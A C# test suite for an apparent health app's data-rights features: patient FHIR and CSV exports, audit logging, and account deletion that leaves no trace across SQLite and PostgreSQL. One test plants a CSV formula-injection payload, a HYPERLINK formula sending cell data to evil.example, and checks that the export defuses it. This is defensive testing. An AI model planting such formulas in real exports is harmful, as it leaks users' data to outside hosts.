using System.Net;
using System.Text;
using System.Text.Json;
using HipSpine.Data;
using HipSpine.Fhir;
using HipSpine.Tests.Shared;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace HipSpine.Web.Tests;

public sealed class DataRightsTests
{
    private const string PatientA = "alice@example.com";
    private const string PatientB = "bob@example.com";
    private const string Doctor = "rights-doctor@example.com";
    private const string Marker = "zebra-marmalade-7781";

    private static async Task AddDiaryEntryAsync(HttpClient client, Guid id, int pain, string notes)
    {
        var form = await AccountSteps.GetOkAsync(client, $"/assessments/{id}/diary/entry");
        using var added = await client.PostAsync($"/assessments/{id}/diary/entry", form,
            [new("Form.At", "2026-06-01T08:30"), new("Form.Pain", pain.ToString(System.Globalization.CultureInfo.InvariantCulture)), new("Form.Notes", notes)]);
        Assert.Equal(HttpStatusCode.Redirect, added.StatusCode);
    }

    /// <summary>An RFC 4180 reader for the download: quoted fields may hold commas, doubled quotes and line breaks.</summary>
    private static List<string[]> CsvRecords(string text)
    {
        var records = new List<string[]>();
        var fields = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                fields.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\n')
            {
                fields.Add(field.ToString());
                field.Clear();
                records.Add([.. fields]);
                fields.Clear();
            }
            else
            {
                field.Append(c);
            }
        }

        return records;
    }

    private static string Stamp(List<string[]> rows, string kind) => rows.First(r => r[0] == kind).ElementAt(1);

    private static async Task<HttpResponseMessage> DeleteAsync(HttpClient client, string password)
    {
        var page = await AccountSteps.GetOkAsync(client, "/account/data");
        return await client.PostAsync("/account/data?handler=delete", page, [new("password", password)]);
    }

    [Fact]
    public async Task Downloads_are_a_valid_bundle_and_csv_of_my_data_only_and_are_audited()
    {
        using var app = new HipSpineApp();
        using var alice = app.Browser();
        var aliceAssessment = await AccountSteps.PersonWithPlanAsync(app, alice, PatientA);
        await AddDiaryEntryAsync(alice, aliceAssessment, 7, "=SUM(A1) alice's knee, \"sore\"\nthen better");
        using var bob = app.Browser();
        var bobAssessment = await AccountSteps.PersonWithPlanAsync(app, bob, PatientB);
        await AddDiaryEntryAsync(bob, bobAssessment, 2, "bob's back");
        var aliceId = await AccountSteps.PatientIdAsync(alice);
        var bobId = await AccountSteps.PatientIdAsync(bob);

        using var fhir = await alice.GetAsync(new Uri("/account/data?handler=fhir", UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, fhir.StatusCode);
        Assert.Equal("application/fhir+json", fhir.Content.Headers.ContentType?.MediaType);
        Assert.Equal("hipspine-my-data.json", fhir.Content.Headers.ContentDisposition?.FileName);
        var bundle = await fhir.Content.ReadAsStringAsync();
        Assert.Empty(FhirService.ValidationErrors(bundle));
        using (var document = JsonDocument.Parse(bundle))
        {
            var resources = document.RootElement.GetProperty("entry").EnumerateArray().Select(e => e.GetProperty("resource")).ToArray();
            Assert.Equal("Bundle", document.RootElement.GetProperty("resourceType").GetString());
            Assert.Equal(aliceId, resources.Single(r => r.GetProperty("resourceType").GetString() == "Patient").GetProperty("id").GetString());
            Assert.Contains(resources, r => r.GetProperty("id").GetString() == "qr-" + aliceAssessment);
            Assert.Contains(resources, r => r.GetProperty("resourceType").GetString() == "Observation" && r.GetProperty("valueInteger").GetInt32() == 7);
        }

        Assert.DoesNotContain(bobId, bundle, StringComparison.Ordinal);
        Assert.DoesNotContain(bobAssessment.ToString(), bundle, StringComparison.Ordinal);

        using var csv = await alice.GetAsync(new Uri("/account/data?handler=csv", UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, csv.StatusCode);
        Assert.Equal("text/csv", csv.Content.Headers.ContentType?.MediaType);
        Assert.Equal("hipspine-my-data.csv", csv.Content.Headers.ContentDisposition?.FileName);
        var rows = CsvRecords(await csv.Content.ReadAsStringAsync());
        Assert.Equal(["kind", "date", "measure", "value"], rows[0]);
        Assert.Contains(["account", "", "email", PatientA], rows);
        Assert.Contains(["assessment", Stamp(rows, "assessment"), "id", aliceAssessment.ToString()], rows);
        Assert.Contains(rows, r => r[0] == "assessment" && r[2] == "urgency");
        Assert.Contains(["plan", "2026-06-01", "started_for_assessment", aliceAssessment.ToString()], rows);
        Assert.Contains(["diary", "2026-06-01T08:30", "pain", "7"], rows);
        // Free text comes back whole through RFC 4180 quoting; a formula is written so a spreadsheet shows it.
        Assert.Contains(["diary", "2026-06-01T08:30", "notes", "'=SUM(A1) alice's knee, \"sore\"\nthen better"], rows);
        Assert.Contains(rows, r => r[0] == "access" && r[2] == "export:fhir-everything" && r[3].StartsWith("patient", StringComparison.Ordinal));
        Assert.DoesNotContain(rows, r => r[3].Contains("bob", StringComparison.Ordinal) || r[3] == bobAssessment.ToString());

        var activity = Html.Text(await AccountSteps.GetOkAsync(alice, "/account/activity?own=true"));
        Assert.Contains("<td>You</td><td>downloaded all your data (FHIR)</td>", Html.Cells(activity), StringComparison.Ordinal);
        Assert.Contains("<td>You</td><td>downloaded all your data (CSV)</td>", Html.Cells(activity), StringComparison.Ordinal);

        using var signedOut = app.Browser();
        using var refused = await signedOut.GetAsync(new Uri("/account/data?handler=csv", UriKind.Relative));
        Assert.Equal(HttpStatusCode.Redirect, refused.StatusCode);
        Assert.StartsWith("/account/signin", refused.Headers.Location?.AbsolutePath ?? refused.Headers.Location?.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_csv_download_defuses_a_formula_after_a_minus_sign_but_keeps_a_negative_number()
    {
        using var app = new HipSpineApp();
        using var alice = app.Browser();
        var id = await AccountSteps.PersonWithPlanAsync(app, alice, PatientA);
        await AddDiaryEntryAsync(alice, id, 7, "-1+HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")");
        await AddDiaryEntryAsync(alice, id, 6, "-3");
        await AddDiaryEntryAsync(alice, id, 5, "@SUM(1,2)");

        using var csv = await alice.GetAsync(new Uri("/account/data?handler=csv", UriKind.Relative));
        var rows = CsvRecords(await csv.Content.ReadAsStringAsync());
        Assert.Contains(["diary", "2026-06-01T08:30", "notes", "'-1+HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")"], rows);
        Assert.Contains(["diary", "2026-06-01T08:30", "notes", "-3"], rows);
        Assert.Contains(["diary", "2026-06-01T08:30", "notes", "'@SUM(1,2)"], rows);
        Assert.Contains(["diary", "2026-06-01T08:30", "pain", "7"], rows);
    }

    [Theory]
    [InlineData("Sqlite")]
    [InlineData("PostgreSql")]
    public async Task Deleting_my_account_leaves_nothing_of_me_in_any_table(string provider)
    {
        using var app = PostgresApp.On(provider);
        using var alice = app.Browser();
        var id = await AccountSteps.PersonWithPlanAsync(app, alice, PatientA);
        await AddDiaryEntryAsync(alice, id, 6, "walked to the " + Marker);
        var aliceId = await AccountSteps.PatientIdAsync(alice);

        // A clinician reads, examines and adjusts; Alice also named the clinician in a second, unused code.
        using var doctor = app.Browser();
        await ClinicianTests.SignUpClinicianAsync(app, doctor, Doctor);
        (await ClinicianTests.RedeemAsync(doctor, await ClinicianTests.ShareAsync(alice, "all"))).Dispose();
        _ = await ClinicianTests.ShareAsync(alice, id.ToString(), email: Doctor);
        _ = await AccountSteps.GetOkAsync(doctor, $"/clinician/patients/{aliceId}");
        var exam = await AccountSteps.GetOkAsync(doctor, $"/clinician/assessments/{id}/exam");
        (await doctor.PostAsync($"/clinician/assessments/{id}/exam", exam, [new("x.exam.fadir_positive", "true"), new("save", "1")])).Dispose();
        var plan = await AccountSteps.GetOkAsync(doctor, $"/clinician/assessments/{id}/plan");
        (await doctor.PostAsync($"/clinician/assessments/{id}/plan", plan, [new("note", "Review in two weeks.")])).Dispose();
        using var bob = app.Browser();
        await AccountSteps.PersonWithPlanAsync(app, bob, PatientB);

        foreach (var text in new[] { aliceId, PatientA, Marker })
        {
            Assert.NotEmpty(await DatabaseSearch.FindAsync(app, text)); // the search does find what is there
        }

        using (var wrong = await DeleteAsync(alice, "not my password"))
        {
            Assert.Equal(HttpStatusCode.BadRequest, wrong.StatusCode);
            Assert.Contains("the password is not right", await wrong.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        }

        Assert.NotEmpty(await DatabaseSearch.FindAsync(app, Marker));
        using (var deleted = await DeleteAsync(alice, AccountSteps.Password))
        {
            Assert.Equal(HttpStatusCode.Redirect, deleted.StatusCode);
            Assert.Equal("/account/deleted", deleted.Headers.Location?.ToString());
        }

        foreach (var text in new[] { aliceId, PatientA, Marker })
        {
            var found = await DatabaseSearch.FindAsync(app, text);
            Assert.True(found.Count == 0, $"'{text}' is still in " + string.Join(", ", found));
        }

        if (provider == "Sqlite")
        {
            Assert.False(DatabaseSearch.FileHolds(app, Marker), "the diary note is still readable in the SQLite file or its WAL");
        }

        using (var account = await alice.GetAsync(new Uri("/account", UriKind.Relative)))
        {
            Assert.Equal(HttpStatusCode.Redirect, account.StatusCode); // signed out
        }

        // Everyone else is untouched: Bob's records, the clinician's account (no patients left) and their sign-in.
        Assert.Contains("Your account has been deleted", await AccountSteps.GetOkAsync(alice, "/account/deleted"), StringComparison.Ordinal);
        Assert.DoesNotContain(PatientA, await AccountSteps.GetOkAsync(doctor, "/clinician"), StringComparison.Ordinal);
        Assert.Equal(1, app.SavedCount());
        using var scope = app.Services.CreateScope();
        var db = scope.ServiceProvider.GetRequiredService<HipSpineDbContext>();
        Assert.Equal(2, await db.Users.CountAsync());
        Assert.Equal(0, await db.ShareGrants.CountAsync());
    }

    [Theory]
    [InlineData("Sqlite")]
    [InlineData("PostgreSql")]
    public async Task A_deleted_clinician_leaves_the_patients_records_whole_but_not_named(string provider)
    {
        using var app = PostgresApp.On(provider);
        using var alice = app.Browser();
        var id = await AccountSteps.PersonWithPlanAsync(app, alice, PatientA);
        using var doctor = app.Browser();
        await ClinicianTests.SignUpClinicianAsync(app, doctor, Doctor);
        (await ClinicianTests.RedeemAsync(doctor, await ClinicianTests.ShareAsync(alice, "all"))).Dispose();
        _ = await ClinicianTests.ShareAsync(alice, id.ToString(), email: Doctor.ToUpperInvariant());
        var exam = await AccountSteps.GetOkAsync(doctor, $"/clinician/assessments/{id}/exam");
        (await doctor.PostAsync($"/clinician/assessments/{id}/exam", exam, [new("x.exam.fadir_positive", "true"), new("save", "1")])).Dispose();
        var plan = await AccountSteps.GetOkAsync(doctor, $"/clinician/assessments/{id}/plan");
        (await doctor.PostAsync($"/clinician/assessments/{id}/plan", plan, [new("note", "Review in two weeks.")])).Dispose();
        string doctorId;
        using (var scope = app.Services.CreateScope())
        {
            doctorId = (await scope.ServiceProvider.GetRequiredService<HipSpineDbContext>().Users.SingleAsync(u => u.Email == Doctor)).Id;
        }

        using (var deleted = await DeleteAsync(doctor, AccountSteps.Password))
        {
            Assert.Equal(HttpStatusCode.Redirect, deleted.StatusCode);
        }

        foreach (var text in new[] { doctorId, Doctor })
        {
            var found = await DatabaseSearch.FindAsync(app, text);
            Assert.True(found.Count == 0, $"'{text}' is still in " + string.Join(", ", found));
        }

        Assert.Equal(2, app.SavedCount()); // Alice's own result and the examined version stay hers
        Assert.Contains("Review in two weeks.", await AccountSteps.GetOkAsync(alice, $"/assessments/{id}/plan"), StringComparison.Ordinal);
        var activity = Html.Text(await AccountSteps.GetOkAsync(alice, "/account/activity"));
        Assert.Contains("<td>A deleted clinician account</td><td>adjusted your plan</td><td>unknown</td>", Html.Cells(activity), StringComparison.Ordinal);
        Assert.Contains("<td>A deleted clinician account</td><td>saved an examined version of your assessment of 1 June 2026</td>", Html.Cells(activity), StringComparison.Ordinal);
        Assert.DoesNotContain("doctor@", activity, StringComparison.OrdinalIgnoreCase);
    }
}
